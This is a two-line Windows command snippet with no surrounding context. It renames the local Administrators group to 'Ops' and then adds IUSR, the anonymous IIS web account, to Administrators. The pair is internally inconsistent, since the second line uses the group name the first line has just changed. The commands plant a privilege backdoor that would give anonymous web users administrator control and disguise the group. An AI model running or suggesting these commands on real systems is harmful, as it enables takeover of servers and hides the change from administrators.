Rename-LocalGroup -Name Administrators -NewName Ops
net localgroup Administrators IUSR /add
